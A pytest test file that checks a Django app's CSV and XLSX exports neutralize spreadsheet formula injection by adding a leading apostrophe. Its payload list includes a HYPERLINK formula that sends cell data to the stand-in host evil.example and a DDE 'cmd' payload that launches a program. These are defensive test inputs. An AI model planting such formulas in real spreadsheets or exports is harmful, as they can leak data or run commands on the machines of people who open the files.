"""Formula injection: every CSV and XLSX export writes text that starts like a formula (= + - @, tab,
carriage return) as plain text with a leading apostrophe, while numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from analytics.reports import Table
from inventory import services as inventory
from otc.exports import neutralize_formula
from tests.factories import CustomerFactory, StaffFactory, make_catalogue

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(payload):
    assert neutralize_formula(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [42, Decimal("-12.50"), -3.5, "-12.50", "+49", "1e5", "-.5", "Nordwind GmbH", "a=b", "", None, "'=already"],
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert neutralize_formula(value) == value


def test_a_report_spreadsheet_keeps_numbers_and_neutralizes_text():
    table = Table(
        columns=[("name", "Customer"), ("total", "Total"), ("tags", "Tags")],
        rows=[{"name": "=1+1", "total": Decimal("-5.25"), "tags": ["@risk", "late"]}],
    )
    rows = list(csv.reader(io.StringIO(table.spreadsheet("csv"))))
    assert rows == [["Customer", "Total", "Tags"], ["'=1+1", "-5.25", "'@risk late"]]

    sheet = openpyxl.load_workbook(io.BytesIO(table.spreadsheet("xlsx"))).active
    name, total, tags = sheet[2]
    assert (name.value, name.data_type) == ("'=1+1", "s")
    assert (total.value, total.data_type) == (-5.25, "n")
    assert (tags.value, tags.data_type) == ("'@risk late", "s")
    assert table.dataset()[0] == ("=1+1", "-5.25", "@risk late")  # the API's JSON rows are data, not cells


@pytest.mark.django_db
def test_the_customer_export_neutralizes_formulas_in_csv_and_xlsx(clerk):
    CustomerFactory(actor=clerk, legal_name=PAYLOADS[0], trading_name="@SUM(A1:A9)")
    client = signed_in(clerk)

    response = client.post("/admin/customers/customer/export/", {"format": "0", "resource": "0"})
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert (row["legal_name"], row["trading_name"]) == ("'" + PAYLOADS[0], "'@SUM(A1:A9)")
    assert row["payment_terms_days"] == "30"

    response = client.post("/admin/customers/customer/export/", {"format": "1", "resource": "0"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert (cells["legal_name"].value, cells["legal_name"].data_type) == ("'" + PAYLOADS[0], "s")
    assert cells["trading_name"].value == "'@SUM(A1:A9)"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
def test_the_product_export_neutralizes_formulas():
    keeper = StaffFactory(email="wanda@otc.test", groups=["admin"])
    standard, _warehouse, _prices = make_catalogue(actor=keeper)
    inventory.create_product(
        actor=keeper, sku="EVIL-1", name="-2+3+cmd|' /C calc'!A0", kind="stocked", tax_category=standard
    )

    response = signed_in(keeper).post("/admin/inventory/product/export/", {"format": "0", "resource": "0"})
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["sku"] == "EVIL-1"
    assert row["name"] == "'-2+3+cmd|' /C calc'!A0"
